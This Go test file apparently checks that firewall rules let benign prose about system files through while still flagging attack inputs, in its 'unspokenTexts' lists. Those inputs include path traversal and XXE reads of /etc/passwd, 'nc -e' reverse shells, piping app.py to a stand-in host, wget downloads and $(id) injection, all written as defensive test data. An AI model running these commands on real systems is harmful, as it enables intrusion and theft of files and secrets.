package confirm

import "testing"

// Names of files and programs in sentences, by the rule that matches them.
var spokenTexts = map[int][]string{
	930120: {
		"The password stands encrypted in /etc/shadow;", "/etc/passwd\nlists the names of all users", "Chapter 2.1. Users: /etc/passwd2.2. Groups: /etc/group", "If the file /var/run/utmp is absent, nobody is listed.",
		"Older entries move from /var/log/messages \ninto an archive (see /etc/logrotate.d/).", "Example 3. The /etc/apache2/conf-available/log.conf file", ".bash_history files often hold commands that people forget.",
		"Voir le fichier /etc/hosts pour les noms des machines.", "Extrait 3. Fichier /etc/apache2/sites-available/www.conf", "Die Datei /etc/fstab nennt alle Platten.", "We look into /proc/self/mountinfo, line by line.", "R /etc/issue ,\nthat is shown before the login.",
	},
	932160:  {"/etc/passwd\nlists the names of all users", "The password stands encrypted in /etc/shadow;", "It behaves as if\n/bin/sh\nand\n/bin/csh\nwere listed in the file.", "The folder of a user (the variable $HOME often points there)", "Each shell is listed in /etc/shells and nowhere else."},
	1010122: {"Links of a kind live in /proc/[pid]/exe and /proc/[pid]/fd/* as the manual says."},
	932235:  {"Many servers answer on port 43 when they are asked, and most of them do so.\ncurl is slow there, as mail.example knows.", "Many servers answer on port 43.\nOn most systems the client is\n\n    whois -h server_name person_name\n\nSee also the list of servers.", "The default is what shows no\nchroot 2\nto the caller, and that is why it was left as it is."},
	932250:  {"It behaves as if\n/bin/sh\nand\n/bin/csh\nwere listed in the file of all shells."},
	932260:  {"You can talk to the server by hand.\n\n    telnet relay.example 25\n\nFirst you should say who you are."},
	920540:  {"Signs are written as an escape (e.g., \\u003c) so that pages may hold them."},
}

// What leaves its place, or is no sentence, in the same fields.
var unspokenTexts = map[int][]string{
	930120: {
		"/etc/passwd", "please read the file ../../../etc/passwd", "see file:///etc/passwd for the list", "now we cat /etc/passwd again", "cat the list of users /etc/passwd", "the text is '/etc/passwd' in this query", "it was load_file('/etc/passwd') again and again",
		"hello my dear friend; head /etc/passwd", "hello dear friend of mine; find /etc/passwd", "hello my dear friend </etc/passwd", "hello my dear friend $x /etc/passwd", "hello my dear friend -F /etc/passwd", "hello my dear x=/etc/passwd", "hello my dear friend c''at /etc/passwd",
		"/etc/passwd x y zed", "the path is /etc/passwd%00.png today", `<!ENTITY name SYSTEM "/etc/passwd" > and so on`, "hello my dear friend /bin/c?t /etc/passwd", "hello my dear friend {cat,/etc/passwd}",
	},
	932160:  {"/bin/sh", "the friend of mine calls nc -e /bin/sh now", "the variable is $IFS and nothing else", "the variable is x$HOME/y and nothing else", "the run('/usr/bin/ab') of that day"},
	1010122: {"/proc/self/environ", "the list of x=/proc/self/environ", "now we read '/proc/self/environ' again"},
	932235: {
		"x\nwget http://h.example/a", "Many servers answer on port 43, as we know from the list of them.\nwget http://h.example/a -O a", "Many servers answer on port 43, as we know from the list of them.\ncat app.py | nc h.example 1",
		"Many servers answer on port 43, as we know from the list of them; cat /etc/hosts", "Many servers answer on port 43, as we know from the list of them $(id)", "whois -h server_name x\nls -la\n", "Many servers answer on port 43, as we know from it all.\nsh -c 'id'",
		"Many servers answer on port 43, as we know from the list of them.\nnc -e sh h.example 80", "Many servers answer on port 43, as we know from the list of them.\ncurl h.example -o x\nand so on", "Many servers answer on port 43, as we know from the list of them.\nwget -qO x 10.0.0.1/a",
	},
	920540: {"\\u003cscript\\u003e", "the sign is written a\\u003cb in our text", "the sign is written \\u003cb in our text", "\\u003c"},
}

func TestSentencesOfADeclaredTextNameFilesAndPrograms(t *testing.T) {
	for rule, texts := range spokenTexts {
		verdicts{rule: rule, kind: "text", counts: unspokenTexts[rule], denied: texts}.check(t)
	}
}

// Nothing but the declaration says so.
func TestNamesOfFilesCountInOtherFields(t *testing.T) {
	for _, rule := range []int{930120, 920540, 1010122} {
		verdicts{rule: rule, counts: append(unspokenTexts[rule], spokenTexts[rule][0])}.check(t)
	}
}

// What a rule fears counts in a text as it does elsewhere.
func TestAnAttackCountsInADeclaredText(t *testing.T) {
	for rule, all := range commands {
		for _, text := range all {
			if reason, denied := Denied(Match{Rule: rule, Text: text, Kind: "text"}); denied {
				t.Errorf("%d %q: %s", rule, text, reason)
			}
		}
	}
	for _, rule := range []int{942100, FirstNear} {
		verdicts{rule: rule, kind: "text", counts: goesOnTexts}.check(t)
	}
}
